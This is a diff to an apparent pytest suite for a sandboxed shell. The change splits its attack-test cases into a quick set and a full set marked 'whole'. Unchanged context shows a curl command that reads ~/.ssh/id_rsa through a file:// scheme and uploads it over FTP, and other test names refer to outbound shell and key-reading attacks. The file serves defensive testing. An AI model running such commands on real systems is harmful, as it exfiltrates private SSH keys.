@@ -44,6 +44,8 @@ CALLS = {
     "by a scheme of files": f"{CURL} -x $HTTP_PROXY file://{{home}}/.ssh/id_rsa ftp://127.0.0.1:{{port}}/",
 }
 AS_EVER = ("calls out", "calls out by shell", "calls an agent", "calls an abstract socket", "reads a key")
+QUICK = ("by its name", "by a tunnel", "by a tunnel that is told another host", "then by another")
+QUICK += ("by an address within another", "calls out", "calls an abstract socket")
 
 
 @pytest.fixture
@@ -60,7 +62,13 @@ def shell(tmp_path: Path) -> Shell:
     return Shell(tmp_path / "workspace", tmp_path / "logs", load_settings())
 
 
-@pytest.mark.parametrize("attack", [*CALLS.values(), *map(COMMANDS.__getitem__, AS_EVER)], ids=[*CALLS, *AS_EVER])
+@pytest.mark.parametrize(
+    "attack",
+    [
+        pytest.param(attack, id=name, marks=[] if name in QUICK else [pytest.mark.whole])
+        for name, attack in {**CALLS, **{name: COMMANDS[name] for name in AS_EVER}}.items()
+    ],
+)
 def test_nothing_of_this_machine_is_called(attack: str, outside: Outside, shell: Shell, record_property: Any) -> None:
     record_property("attacks tried", 1)
     for name, value in outside.names.items():
